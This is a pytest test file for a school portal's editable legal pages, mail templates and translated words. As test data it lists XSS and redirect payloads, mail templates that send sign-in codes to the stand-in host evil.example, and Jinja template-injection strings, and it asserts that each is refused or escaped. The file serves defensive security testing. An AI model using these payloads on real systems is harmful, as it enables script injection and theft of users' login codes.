"""The school's own words: legal pages, mails, single texts; and what may not come in with them."""

from __future__ import annotations

import time
from dataclasses import replace
from typing import Any

import pytest

from amicale import DB, post_mail
from amicale.access import roles
from amicale.actor import SYSTEM
from amicale.errors import Refusal
from amicale.here import HERE
from amicale.i18n import translate, translate_plural, translator
from amicale.mail.personal import Astray
from amicale.mail.sending import send_due
from amicale.mail.templates import rendered_own
from amicale.members.service import merge
from amicale.portal.markdown import markdown
from amicale.portal.rendering import gettext, ngettext
from amicale.school import legal
from amicale.school.mailcheck import check_mail_text
from amicale.school.mailsource import default_text, parts_of, places_in, spelled
from amicale.school.own import PLURAL, take_own_texts
from amicale.testing.browser import Browser
from amicale.testing.kit import School
from amicale.testing.postbox import Postbox

_ = translator("amicale")
LEGAL = """mutation($slug: String!, $body: String!, $publish: Boolean!, $seen: ID) { saveLegalText(slug: $slug,
  language: "fr", title: "Mentions", body: $body, publish: $publish, seen: $seen) { state seen openPlaces } }"""
MAIL = """mutation($kind: String!, $body: String!, $publish: Boolean!) { saveMailText(kind: $kind, language: "en",
  body: $body, publish: $publish) { state body } }"""
WORD = """mutation($name: String!, $text: String!, $plural: String!, $language: String!) { setOwnWord(
  domain: "amicale", name: $name, language: $language, text: $text, plural: $plural) }"""
KIND = "amicale.address_code"
GOOD = "Code: {{ code }}\n\nDear {{ name }}, type `{{ code }}` within {{ minutes }} minutes.\n\n[Open]({{ link }})"
ATTACKS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](data:text/html,x)",
    "![x](https://evil.example/x.png)", "<https://x.example/<script>>", "[x](//evil.example)", "[x](/\\evil.example)",
    "[x](vbscript:x)", "<a href=javascript:x>", "[x]: javascript:alert(1)\n\n[x]", "[x](/%5Cevil.example)",
)  # fmt: skip
STOLEN = (
    "S\n\n[Sign in](https://evil.example/?t={{ link }})", "S\n\n[Sign in](https://evil.example/{{ code }})",
    "S {{ code }}\n\n<https://evil.example/{{ code }}>", "S\n\nhttps://evil.example/{{ code }}",
    "S\n\nevil.example/**{{ code }}**", "S\n\n{{ code }}.evil.example", "evil.example/{{ code }}\n\nx",
    "S\n\n[x](https://evil.example/{% if name %}{{ code }}{% endif %})",
    "S\n\n[x](mailto:a@evil.example?body={{ code }})",
    "S\n\n{{ 'https://evil.example/' }}{{ link }}", "S\n\n    https://evil.example/{{ code }}",
    "S\n\n```\nevil.example/{{ code }}\n```", "S\n\n[x](https://evil.example/{{ code|lines }})",
    "S\n\n- [x](<https://evil.example/{{ link|lines }}>)", "S\n\n[x]({{ link }}@evil.example) {{ code }}@evil.example",
)  # fmt: skip
KEPT = (
    GOOD, "S\n\n`{{ code }}`", "S\n\nCode:{{ code }}.\n\n({{ link }})", "S\n\n**{{ code }}**, or <{{ link }}>.",
    "S\n\n{% if name %}[A]({{ link }}){% else %}[B]({{ link }}){% endif %}\n\n[Us](https://school.example/help)",
    "S\n\n[{{ link }}]({{ link }})", "S\n\n> {{ link }}\n\nwww.school.example",
)  # fmt: skip


@pytest.fixture
async def writer(school: School) -> Any:
    return school.actor(await school.person("Anne", email="anne@example.org", language="en"), "texts.manage")


class TestMarkdown:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_lets_nothing_through_that_runs_or_leads_astray(self, text: str) -> None:
        html = str(markdown(text)).lower()
        for sign in ("<script", "<img", "onerror=a", 'href="javascript', 'href="data', 'href="//', 'href="vbscript',
                     'href="/\\', 'href="/%5c'):  # fmt: skip
            assert sign not in html.replace("&lt;", "(").replace("onerror=alert", "")

    def test_leaves_no_level_of_headings_out(self) -> None:
        assert markdown("# One\n\n### Two") == "<h2>One</h2>\n<h3>Two</h3>\n"


class TestLegal:
    async def test_begins_with_a_text_that_must_be_completed(self, school: School, writer: Any) -> None:
        for slug in legal.PAGES:
            for locale in ("fr", "en"):
                body = await legal.beginning(slug, locale)
                assert "{" not in body
                wrong = await school.refusal(writer, LEGAL, slug=slug, body=body, publish=True)
                assert wrong["reason"] == "PLACES_LEFT"
        assert await legal.shown("notice", "fr") is None

    def test_finds_open_places_in_no_time(self) -> None:
        begun = time.perf_counter()
        assert legal.open_places("[" * 100_000 + "[[a\nplace]]" + "[[x" * 30_000) == ["a place"]
        assert time.perf_counter() - begun < 1

    async def test_is_public_when_published_and_gone_when_withdrawn(self, school: School, browser: Browser) -> None:
        anne = await school.person("Anne", email="anne@example.org")
        await roles.define(SYSTEM, "writer", "Writer", ["texts.manage"])
        await roles.grant(SYSTEM, "writer", anne)
        assert (await browser.get("/legal/notice")).status_code == 404
        await browser.sign_in(anne)
        path = "/staff/texts/legal/notice?language=fr"
        fields = {"language": "fr", "title": "Mentions <i>légales</i>", "body": "# Qui\n\n" + "\n\n".join(ATTACKS)}
        page = await browser.post(path, "SaveLegalText", **fields, publish="false")
        assert "Draft kept." in page.text
        assert (await browser.get("/legal/notice")).status_code == 404, "a draft holds for nobody"
        page = await browser.post(path, "SaveLegalText", **fields, publish="true")
        assert page.status_code == 200
        assert "Published: everybody can read it." in page.text
        assert "alert(1)" in page.text
        browser.sign_out()
        page = await browser.get("/legal/notice?lang=fr")
        assert page.status_code == 200
        assert "<script>alert" not in page.text
        assert "<i>" not in page.text
        assert 'href="javascript' not in page.text
        assert 'href="/legal/notice"' in (await browser.get("/")).text, "linked at the foot of every page"
        assert "French only" in (await browser.get("/legal/notice?lang=en")).text
        await browser.sign_in(anne)
        await browser.post(path, "WithdrawLegalText", language="fr")
        assert (await browser.get("/legal/notice")).status_code == 404
        assert 'href="/legal/notice"' not in (await browser.get("/")).text

    async def test_keeps_every_version_as_it_was(self, school: School, writer: Any) -> None:
        first = await school.data(writer, LEGAL, slug="terms", body="One", publish=True)
        await school.data(writer, LEGAL, slug="terms", body="Two", publish=False)
        assert (await legal.shown("terms", "fr"))[0].body == "One"  # type: ignore[index]
        assert [each.body for each in await legal.history("terms", "fr")] == ["Two", "One"]
        seen = first["saveLegalText"]["seen"]
        wrong = await school.refusal(writer, LEGAL, slug="terms", body="Three", publish=True, seen=seen)
        assert wrong["reason"] == "CHANGED_MEANWHILE"
        with pytest.raises(Exception, match="only ever added"):
            await DB.execute("UPDATE amicale.own_text SET body = 'x'")

    async def test_knows_no_other_page_and_no_other_language(self, school: School, writer: Any) -> None:
        assert (await school.refusal(writer, LEGAL, slug="../x", body="x", publish=True))["field"] == "slug"
        other = LEGAL.replace('"fr"', '"de"')
        assert (await school.refusal(writer, other, slug="terms", body="x", publish=True))["field"] == "language"

    async def test_follows_its_author_in_a_merge_and_outlives_them(self, school: School, writer: Any) -> None:
        await school.data(writer, LEGAL, slug="terms", body="One", publish=True)
        kept = await school.person()
        await merge(SYSTEM, kept, writer.member_id)
        assert await DB.fetch_value("SELECT author FROM amicale.own_text") == kept
        await DB.execute("DELETE FROM amicale.member WHERE id = $1", kept)
        assert await DB.fetch_value("SELECT author IS NULL FROM amicale.own_text")


class TestMailText:
    async def test_begins_with_what_the_mail_says_in_each_language(self, school: School) -> None:
        for mail in school.assembly.mails.values():
            for locale in ("fr", "en"):
                text = default_text(mail, locale)
                assert "_(" not in text
                check_mail_text(mail, text)
        assert "Bonjour {{ name }}," in default_text(school.assembly.mails[KIND], "fr")
        assert places_in(default_text(school.assembly.mails[KIND], "en")) == [
            "{{ code }}", "{{ name }}", "{{ minutes }}", "{{ link }}",
        ]  # fmt: skip

    def test_what_is_either_of_two_texts_is_a_condition_with_both(self) -> None:
        for source, text in (
            ('{{ _("Hello %(name)s,", name=name) if name else _("Hello,") }}',
             "{% if name %}Bonjour {{ name }},{% else %}Bonjour,{% endif +%}"),
            ('{{ _("Hello,") if kind == "new" else "" }}', '{% if kind == "new" %}Bonjour,{% else %}{% endif +%}'),
            ("{{ day|long_date(locale) }}", "{{ day|long_date(locale) }}"),
        ):  # fmt: skip
            assert "".join(spelled(part, "amicale", "fr") for part in parts_of(source)) == text

    async def test_is_sent_from_now_on_and_taken_back(self, school: School, writer: Any, postbox: Postbox) -> None:
        test = "amicale.mail_test"
        text = "It works\n\nAt {{ address }}.\n\n[Portal]({{ link }})"
        await school.data(writer, MAIL, kind=test, body=text, publish=False)
        await post_mail(test, member_id=writer.member_id)
        await school.data(writer, MAIL, kind=test, body=text, publish=True)
        await post_mail(test, member_id=writer.member_id)
        await send_due({})
        assert [mail.subject for mail in postbox.mails] == ["It works", "It works"], "by what holds when it is sent"
        await school.data(writer, f'mutation {{ resetMailText(kind: "{test}", language: "en") {{ state }} }}')
        await post_mail(test, member_id=writer.member_id)
        await send_due({})
        assert postbox.mails[-1].subject == "Mail works"

    async def test_is_tried_on_oneself(self, school: School, writer: Any, postbox: Postbox) -> None:
        await school.data(writer, MAIL, kind=KIND, body=GOOD, publish=False)
        await school.data(writer, f'mutation {{ testMailText(kind: "{KIND}", language: "en") }}')
        await send_due({})
        assert postbox.last("anne@example.org").subject == "Test: Code: 123456"

    async def test_that_breaks_later_keeps_no_mail_from_being_sent(
        self, school: School, writer: Any, postbox: Postbox
    ) -> None:
        test = "amicale.mail_test"
        await school.data(writer, MAIL, kind=test, body="X {{ address }} [a]({{ link }})", publish=True)
        await DB.execute("ALTER TABLE amicale.own_text DISABLE TRIGGER keep")
        await DB.execute("UPDATE amicale.own_text SET body = 'Gone {{ nothing }}'")
        await post_mail(test, member_id=writer.member_id)
        await send_due({})
        assert postbox.mails[-1].subject == "Mail works"

    @pytest.mark.parametrize(
        "body",
        [
            "Hello {{ nobody }} {{ code }}", "{{ code.__class__ }}", "{{ ''.__class__.__mro__ }} {{ code }}",
            "{{ code }} {{ cycler.__init__.__globals__ }}", "{{ code }} {% include 'x' %}", "{{ code }} {{ range(9) }}",
            "{{ code }} {% set x = 1 %}", "{{ code }} {% import 'x' as y %}", "{{ code }} {{ name|attr('x') }}",
            "{{ code }} {{ name|safe }}", "{{ code }} {{ _('x') }}", "{{ code }} {{ name.upper() }}",
            "{{ code }} {{ name['x'] }}", "{{ code }} {{ 'a' * 999999999 }}",
            "{{ code }} {% for a in 'abc' %}{{ a }}{% endfor %}", "{{ code }} {{ self }}", "{{ code }} {{ name|join }}",
            "{{ code }} {% macro x() %}{% endmacro %}", "{{ code }} {{ name }", "{% if code %}", "", "Hello {{ name }}",
            "{{ code }} {{ namespace() }}", "{{ code }} {{ name ~ name }}", "{{ code }} {{ 2**99 }}", "x" * 20_001,
            "{{ code }} {% for x in minutes recursive %}{{ loop(x) }}{% endfor %}", "{{ code }} {{ lipsum }}",
            "{{ code }} {% filter upper %}{% endfilter %}", "{{ code }} {% do name.x %}",
            "{{ code }} {{ minutes|number('xx') }}", "{{ code }} {{ minutes|long_date(locale, locale) }}",
            f"{{{{ code }}}} {{{{ {'(' * 3000}code{')' * 3000} }}}}",
            f"{{{{ code }}}} {'{% if name %}' * 500}{'{% endif %}' * 500}",
        ],
    )  # fmt: skip
    async def test_refuses_what_the_mail_does_not_have(self, school: School, body: str) -> None:
        with pytest.raises(Refusal) as refusal:
            check_mail_text(school.assembly.mails[KIND], body)
        assert refusal.value.field == "body"

    async def test_leads_no_personal_link_or_code_to_another_site(self, school: School) -> None:
        values = {"code": "482913", "link": HERE.link("/sign-in/t0ken"), "name": "Anne", "minutes": 10}
        for body in STOLEN:
            with pytest.raises(Refusal) as refusal:
                check_mail_text(school.assembly.mails[KIND], body)
            assert refusal.value.field == "body"
            with pytest.raises(Astray):
                rendered_own(body, "en", values)
        for body in KEPT:
            check_mail_text(school.assembly.mails[KIND], body)
            rendered_own(body, "en", values)

    async def test_wants_a_fresh_proof_and_its_permission(self, school: School, writer: Any) -> None:
        wrong = await school.refusal(replace(writer, confirmed_at=None), MAIL, kind=KIND, body=GOOD, publish=True)
        assert wrong["reason"] == "CONFIRM_FIRST"
        word = {"name": "Home", "text": "Foyer", "plural": "", "language": "fr"}
        assert (await school.refusal(replace(writer, confirmed_at=None), WORD, **word))["reason"] == "CONFIRM_FIRST"
        other = school.actor(await school.person(), "school.manage", "mails.manage", "plugins.manage")
        for document in ("{ mailTexts { kind } }", "{ legalTexts { slug } }", "{ ownWords { total } }",
                         f'mutation {{ testMailText(kind: "{KIND}", language: "en") }}'):  # fmt: skip
            assert (await school.refusal(other, document))["code"] == "FORBIDDEN"

    async def test_is_shown_in_a_frame_that_can_do_nothing(self, school: School, browser: Browser) -> None:
        anne = await school.person("Anne", email="anne@example.org")
        await roles.define(SYSTEM, "writer", "Writer", ["texts.manage"])
        await roles.grant(SYSTEM, "writer", anne)
        address = f"/staff/texts/mail-preview/{KIND}?language=en"
        assert (await browser.get(address)).status_code == 401
        await browser.sign_in(anne)
        answer = await browser.get(address)
        assert "sandbox" in answer.headers["content-security-policy"]
        assert "script-src" not in answer.headers["content-security-policy"]
        assert "123456" in answer.text
        page = await browser.get(f"/staff/texts/mails/{KIND}?language=en")
        assert address in page.text
        fields = {"language": "en", "body": "{{ code }} {{ secret }}", "publish": "false"}
        page = await browser.post(f"/staff/texts/mails/{KIND}?language=en", "SaveMailText", **fields)
        assert page.status_code == 422
        assert "{{ secret }}" in page.text, "what was typed is kept"
        assert (await browser.get("/staff/texts/mails/amicale.nothing")).status_code == 404


class TestWords:
    async def test_are_said_everywhere_at_once_and_taken_back(self, school: School, writer: Any) -> None:
        await school.data(writer, WORD, name="Directory", text="Annuaire des Vents", plural="", language="fr")
        assert _("Directory").to("fr") == "Annuaire des Vents"
        assert gettext("amicale_clubs", "fr", "Directory") == "Annuaire des Vents", "a plugin's page says so too"
        assert _("Directory").to("en") == "Directory"
        await school.data(writer, WORD, name="Directory", text="", plural="", language="fr")
        assert _("Directory").to("fr") == "Annuaire"

    async def test_reach_every_process_by_the_generation(self, school: School, writer: Any) -> None:
        before = await DB.fetch_value("SELECT number FROM amicale.generation")
        await school.data(writer, WORD, name="Directory", text="Phone book", plural="", language="en")
        assert await DB.fetch_value("SELECT number FROM amicale.generation") > before
        from amicale import i18n

        i18n.OWN_WORDS.clear()
        await take_own_texts()
        assert translate("amicale", "en", "Directory") == "Phone book"

    async def test_have_both_forms_of_a_number(self, school: School, writer: Any) -> None:
        one, many = "There is a problem", "There are %(num)s problems"
        await school.data(writer, WORD, name=one + PLURAL + many, text="Oups", plural="%(num)s oups", language="fr")
        assert translate_plural("amicale", "fr", one, many, 1) == "Oups"
        assert translate_plural("amicale", "fr", one, many, 2) == "%(num)s oups"

    @pytest.mark.parametrize(
        "text", ["Hello %(nobody)s", "Hello %s", "100 %", "Hello %(name)d", "x" * 4_001, "a\x00b", "%(name", "%%(x)s"]
    )
    async def test_refuses_places_without_a_value(self, school: School, writer: Any, text: str) -> None:
        wrong = await school.refusal(writer, WORD, name="Hello %(name)s,", text=text, plural="", language="en")
        assert wrong["code"] == "BAD_USER_INPUT"

    async def test_are_never_html(self, school: School, browser: Browser) -> None:
        anne = await school.person("Anne", email="anne@example.org")
        await roles.define(SYSTEM, "writer", "Writer", ["texts.manage"])
        await roles.grant(SYSTEM, "writer", anne)
        await browser.sign_in(anne)
        page = "/staff/texts/words?search=Directory&language=en"
        evil = '<script>alert(1)</script>" onmouseover="alert(1)'
        for name in ("Directory", "Home", "Main", "Skip to the content"):
            sent = {"domain": "amicale", "name": name, "language": "en", "text": evil}
            assert (await browser.post(page, "SetOwnWord", **sent)).status_code == 200
        shown = (await browser.get("/")).text
        assert "&lt;script&gt;alert(1)" in shown
        assert "<script>alert(1)" not in shown
        assert '" onmouseover="alert' not in shown

    @pytest.mark.parametrize("plugin", ["amicale", "clubs"])
    async def test_are_never_html_where_they_depend_on_a_number(self, school: School, writer: Any, plugin: str) -> None:
        forms = ("There is a problem", "There are %(num)s problems")
        evil = "<script>alert(1)</script>%(num)s"
        await school.data(writer, WORD, name=PLURAL.join(forms), language="en", text=evil, plural=evil)
        for count in (1, 3):
            said = ngettext(plugin, "en", *forms, count)
            assert said == f"&lt;script&gt;alert(1)&lt;/script&gt;{count}"

    async def test_are_found_without_accents(self, school: School, writer: Any) -> None:
        ask = 'query($s: String) { ownWords(search: $s, language: "fr") { total words { standard } } }'
        found = await school.data(writer, ask, s="ANNUAIRE")
        assert {"standard": "Annuaire"} in found["ownWords"]["words"]
        assert (await school.data(writer, ask, s=""))["ownWords"]["total"] == 0
